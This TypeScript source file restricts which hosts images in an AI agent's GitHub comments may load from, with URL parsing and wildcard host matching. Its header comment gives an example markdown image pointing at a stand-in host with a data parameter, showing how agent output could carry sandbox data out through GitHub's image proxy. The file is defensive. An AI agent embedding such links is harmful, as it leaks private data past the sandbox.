/**
 * Which hosts an image in agent output may load from. GitHub's image proxy fetches every image a
 * comment shows, so an image on any other host would carry data out of the agent's sandbox under
 * the bot's name (`![x](https://elsewhere/p.png?d=…)`): only GitHub's own hosts render.
 */

/** Host names; `*.example.com` stands for every subdomain of example.com (not example.com itself). */
export type ImageHosts = readonly string[];

/** github.com's own image hosts: attachments live on github.com and *.githubusercontent.com. */
export const GITHUB_IMAGE_HOSTS: ImageHosts = ["github.com", "*.githubusercontent.com"];

/**
 * The image hosts for the GitHub a bridge talks to: github.com's, plus a GitHub Enterprise Server's
 * own host (and its subdomains, where it serves attachments with subdomain isolation) when
 * `serverUrl` (the Action's GITHUB_SERVER_URL, the App's GHE_HOST) names another host.
 * Anything unparseable adds nothing.
 */
export function imageHostsFor(serverUrl: string | null | undefined): ImageHosts {
  const text = serverUrl?.trim() ?? "";
  if (text === "") return GITHUB_IMAGE_HOSTS;
  let host: string;
  try {
    host = new URL(/^[a-z][a-z0-9+.-]*:\/\//i.test(text) ? text : `https://${text}`).hostname.toLowerCase();
  } catch {
    return GITHUB_IMAGE_HOSTS;
  }
  if (host === "" || host === "github.com" || host === "api.github.com") return GITHUB_IMAGE_HOSTS;
  return [...GITHUB_IMAGE_HOSTS, host, `*.${host}`];
}

/** Whether an image at `url` may render: http(s), no credentials, and a host in `hosts`. */
export function isAllowedImageUrl(url: string, hosts: ImageHosts = GITHUB_IMAGE_HOSTS): boolean {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return false;
  }
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") return false;
  if (parsed.username !== "" || parsed.password !== "") return false;
  const host = parsed.hostname.toLowerCase();
  return hosts.some((allowed) => {
    const pattern = allowed.toLowerCase();
    return pattern.startsWith("*.") ? host.endsWith(pattern.slice(1)) && host.length > pattern.length - 1 : host === pattern;
  });
}
